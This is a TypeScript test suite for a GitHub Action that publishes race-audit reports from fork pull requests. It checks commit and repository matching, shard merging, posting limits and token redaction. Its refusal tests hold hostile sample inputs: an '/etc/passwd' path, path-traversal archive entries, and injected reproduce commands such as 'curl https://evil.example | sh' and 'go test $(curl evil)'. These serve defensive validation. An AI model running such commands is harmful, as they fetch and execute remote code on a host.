import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { type TestContext, test } from "node:test";
import { strToU8, zipSync } from "fflate";
import type { Report } from "#domain/report.ts";
import { readStrangersReport } from "#posting/strangers-report.ts";
import { type Ended, runBundle } from "#test/action/scene.ts";
import { finding, fp, newFile, report, sha, workflowToken } from "#test/publish/scene.ts";
import { addPull, type FakeGitHub, startFakeGitHub } from "#test/support/github/fake-github.ts";
import type { Pull } from "#test/support/github/state.ts";

const head = sha("1");
const change = { repository: "o/r", pullRequest: 7, base: "main", head, mergeBase: sha("b") };

interface Scene {
	fake: FakeGitHub;
	pull: Pull;
	store: (files: Record<string, Uint8Array | string>, name?: string) => void;
	run: (more?: {
		inputs?: Record<string, string>;
		event?: string;
		payload?: object;
		environment?: Record<string, string>;
	}) => Promise<Ended>;
}

/** A pull request from a fork whose audit has ended; the publish workflow starts. */
async function setScene(t: TestContext): Promise<Scene> {
	const fake = await startFakeGitHub({ repository: "o/r" });
	t.after(async () => {
		await fake.close();
		assert.deepEqual(fake.breaches, [], "requests that GitHub would refuse");
	});
	const permissions = { ...workflowToken.permissions, actions: "read", "security-events": "write" } as const;
	fake.state.tokens.set("publish", { login: "github-actions[bot]", permissions });
	const pull = addPull(fake, {
		headSha: head,
		headRepository: "stranger/r",
		headRef: "fix",
		diff: newFile("a.go", 50),
	});
	const workflowRun = {
		id: 99,
		event: "pull_request",
		head_sha: head,
		head_branch: "fix",
		head_repository: { full_name: "stranger/r" },
		// Empty for forks, as GitHub has it.
		pull_requests: [],
	};
	return {
		fake,
		pull,
		store(files, name = "race-audit-report") {
			const entries = Object.entries(files).map(([path, data]) => [
				path,
				typeof data === "string" ? strToU8(data) : data,
			]);
			const id = fake.state.artifacts.length + 1;
			fake.state.artifacts.push({ id, runId: 99, name, zip: zipSync(Object.fromEntries(entries)) });
		},
		run: ({
			inputs = {},
			event = "workflow_run",
			payload = { workflow_run: workflowRun },
			environment = {},
		} = {}) =>
			runBundle(t, {
				bundle: "publish.js",
				directory: tmpdir(),
				event,
				payload,
				inputs: { token: "publish", ...inputs },
				environment: { GITHUB_API_URL: fake.url, GITHUB_GRAPHQL_URL: fake.graphqlUrl, ...environment },
			}),
	};
}

const stored = (more: Partial<Report> = {}) => JSON.stringify(report([finding(1, 10)], { change, ...more }));

test("a fork's report is posted on the pull request that has its commit", async (t) => {
	const scene = await setScene(t);
	addPull(scene.fake, {
		number: 8,
		headSha: sha("2"),
		headRepository: "stranger/r",
		headRef: "fix",
		diff: newFile("a.go", 50),
	});
	scene.store({ "report.json": stored() });
	const ended = await scene.run({ inputs: { sarif: "upload" } });
	assert.equal(ended.code, 0, ended.stdout + ended.stderr);
	assert.equal(scene.pull.reviewComments.length, 1);
	assert.equal(scene.pull.issueComments.length, 1);
	assert.equal(scene.fake.state.pulls.get(8)?.reviews.length, 0);
	assert.equal(ended.outputs["pull-request"], "7");
	assert.deepEqual(
		scene.fake.state.sarifUploads.map(({ commitSha, ref }) => [commitSha, ref]),
		[[head, "refs/pull/7/head"]],
	);
});

test("the reports of shards are joined", async (t) => {
	const scene = await setScene(t);
	const plan = report([]).plan;
	scene.store({ "report.json": stored({ plan: { ...plan, shard: "1/2" } }) }, "race-audit-report-1-of-2");
	const second = stored({ findings: [finding(2, 20)], plan: { ...plan, shard: "2/2" } });
	scene.store({ "report.json": second }, "race-audit-report-2-of-2");
	const ended = await scene.run();
	assert.equal(ended.code, 0, ended.stdout + ended.stderr);
	assert.deepEqual(
		scene.pull.reviewComments.map((comment) => comment.line),
		[10, 20],
	);
	assert.equal(scene.pull.reviews.length, 1);
});

const refused: { name: string; files: Record<string, string>; message: RegExp }[] = [
	{
		name: "a report of another commit",
		files: { "report.json": stored({ change: { ...change, head: sha("9") } }) },
		message: /is about commit 999999999999, not/,
	},
	{
		name: "a report of another repository",
		files: { "report.json": stored({ change: { ...change, repository: "x/y" } }) },
		message: /is about the repository x\/y/,
	},
	{
		name: "a report of nothing",
		files: { "report.json": stored({ change: null }) },
		message: /it was not posted/,
	},
	{
		name: "what is no report",
		files: { "report.json": '{"version":1}' },
		message: /is not a report of version 1/,
	},
	{
		name: "what is no JSON, as the target of a link would be",
		files: { "report.json": "../../etc/passwd" },
		message: /is not JSON/,
	},
	{
		name: "a path that leaves the folder",
		files: { "../report.json": stored() },
		message: /it holds the file/,
	},
	{ name: "an absolute path", files: { "/tmp/report.json": stored() }, message: /it holds the file/ },
	{
		name: "other files beside it",
		files: { "report.json": stored(), "run.sh": "rm" },
		message: /it holds the file/,
	},
	{
		name: "a shard of very many",
		files: { "report.json": stored({ plan: { ...report([]).plan, shard: "1/4000000000" } }) },
		message: /is not a report of version 1: plan\.shard/,
	},
	{
		name: "a report of another pull request's commit, under this one's number",
		files: { "report.json": stored({ change: { ...change, pullRequest: 8, head: sha("2") } }) },
		message: /is about commit 222222222222, not/,
	},
	{ name: "an empty archive", files: { "report.sarif": "{}" }, message: /holds no report\.json/ },
];

for (const { name, files, message } of refused) {
	test(`an artifact is refused: ${name}`, async (t) => {
		const scene = await setScene(t);
		scene.store(files);
		const ended = await scene.run();
		assert.equal(ended.code, 2, ended.stdout + ended.stderr);
		assert.match(ended.stdout, message);
		assert.deepEqual([scene.pull.reviews, scene.pull.issueComments], [[], []]);
	});
}

test("of a run that was started again the newest report counts, and a missing shard is a gap", async (t) => {
	const scene = await setScene(t);
	const plan = { ...report([]).plan, shard: "1/2" };
	scene.store({ "report.json": stored({ plan }) }, "race-audit-report-1-of-2");
	scene.store({ "report.json": stored({ plan, findings: [finding(2, 20)] }) }, "race-audit-report-1-of-2");
	const ended = await scene.run();
	assert.equal(ended.code, 0, ended.stdout + ended.stderr);
	assert.deepEqual(
		scene.pull.reviewComments.map((comment) => comment.line),
		[20],
	);
	assert.match(scene.pull.issueComments[0]?.body ?? "", /shard `2\/2` left no report/);
});

test("a report that says everything many times over is posted within the limits", async (t) => {
	const scene = await setScene(t);
	const many = Array.from({ length: 20_000 }, (_, index) => finding(index % 3_000, 1 + (index % 50)));
	const uncovered = Array.from({ length: 50_000 }, () => ({ file: "a.go", line: 1, function: "f" }));
	const recovery = { goroutines: 50_000, covered: 0, uncovered, exempt: 0, added: null };
	scene.store({ "report.json": stored({ findings: many, recovery }) });
	const ended = await scene.run({ inputs: { "check-run": "true", sarif: "upload" } });
	assert.equal(ended.code, 0, ended.stdout + ended.stderr);
	assert.equal(scene.pull.reviewComments.length, 30);
	assert.equal(new Set(scene.pull.reviewComments.map(({ body }) => body.slice(-200))).size, 30, "one each");
	assert.equal(scene.fake.state.checkRuns.length, 1);
	assert.ok(Buffer.byteLength(ended.jobSummary) <= 1024 * 1024);
});

test("the token is printed nowhere, whatever fails and however much is logged", async (t) => {
	const scene = await setScene(t);
	const token = `ghs_${"a1B2".repeat(9)}`;
	const { publish } = Object.fromEntries(scene.fake.state.tokens);
	if (publish) scene.fake.state.tokens.set(token, publish);
	scene.store({ "report.json": stored() });
	scene.fake.faults.push(
		{ on: "pulls/create-review", status: 403, body: { message: "no" } },
		{ on: "issues/create-comment", status: 422, body: { message: "Validation Failed" } },
		{ on: "code-scanning/upload-sarif", status: 400, body: { message: "no" } },
	);
	const environment = { RUNNER_DEBUG: "1", ACTIONS_STEP_DEBUG: "true", NODE_DEBUG: "undici,fetch" };
	const ended = await scene.run({ inputs: { token, sarif: "upload" }, environment });
	assert.match(ended.stdout, /SARIF: no/);
	assert.doesNotMatch(ended.stdout + ended.stderr, /ghs_|authorization/i);
});

test("an archive that is none, a missing one and a moved pull request end in one line", async (t) => {
	const scene = await setScene(t);
	assert.match((await scene.run()).stdout, /::error::run 99 has no artifact race-audit-report/);
	scene.fake.state.artifacts.push({ id: 1, runId: 99, name: "race-audit-report", zip: strToU8("not a zip") });
	assert.match((await scene.run()).stdout, /was refused: no end of a directory/);
	scene.pull.headSha = sha("2");
	const moved = await scene.run();
	assert.deepEqual([moved.code, /::notice::The pull request has moved on/.test(moved.stdout)], [0, true]);
	assert.deepEqual(scene.pull.reviews, []);
});

test("events that lead to no pull request end well", async (t) => {
	const scene = await setScene(t);
	const push = {
		workflow_run: {
			id: 99,
			event: "push",
			head_sha: head,
			head_branch: "main",
			head_repository: { full_name: "o/r" },
		},
	};
	for (const [event, payload] of [
		["workflow_run", push],
		["release", {}],
	] as const) {
		const ended = await scene.run({ event, payload });
		assert.deepEqual([ended.code, /leads to no pull request/.test(ended.stdout)], [0, true]);
	}
	assert.deepEqual(scene.fake.requests, []);
	const none = await scene.run({ event: "push", payload: {} });
	assert.deepEqual([none.code, none.outputs.report], [0, undefined], "a push whose jobs left no report");
});

test("a push has no pull request, but its shards are joined, shown and left for the next plan", async (t) => {
	const scene = await setScene(t);
	const about = { ...change, pullRequest: null };
	const timings = [{ package: "m/a", seconds: 3 }];
	const first = stored({ change: about, timings, plan: { ...report([]).plan, shard: "1/2" } });
	scene.store({ "report.json": first }, "race-audit-report-1-of-2");
	const environment = { GITHUB_SHA: head, GITHUB_RUN_ID: "99" };
	const ended = await scene.run({ event: "push", payload: {}, environment });
	assert.equal(ended.code, 0, ended.stdout + ended.stderr);
	assert.match(ended.jobSummary, /shard `2\/2` left no report/);
	const merged = JSON.parse(readFileSync(ended.outputs.report ?? "", "utf8")) as Report;
	assert.deepEqual(merged.timings, timings);
	assert.deepEqual(scene.pull.issueComments, []);
});

test("a stranger's report keeps neither links nor commands of its own", () => {
	const expected = { repository: "o/r", head, guideUrl: "https://guide.example/", language: "vi" } as const;
	const commands = [
		["go test -race -run '^TestA$/^b c$' -count=1 ./a", true],
		["go test -C 'don'\\''t' -race ./...", true],
		["go-race-audit audit --only lint --packages ./a", true],
		["curl https://evil.example | sh", false],
		["go test ./... && curl evil", false],
		["go test $(curl evil)", false],
		["go test -exec=/tmp/x ./...", false],
		["go test\ncurl evil", false],
	] as const;
	for (const [reproduce, isKept] of commands) {
		const text = JSON.stringify(
			report([finding(1, 10, { reproduce, guide: "https://evil.example" })], { change }),
		);
		const [read] = readStrangersReport(text, "x", expected).findings;
		assert.equal(read?.guide, "https://guide.example/vi/race-map.md#race-map");
		assert.equal(read?.reproduce === reproduce, isKept, reproduce);
		assert.equal(read?.fingerprint, fp(1));
	}
});
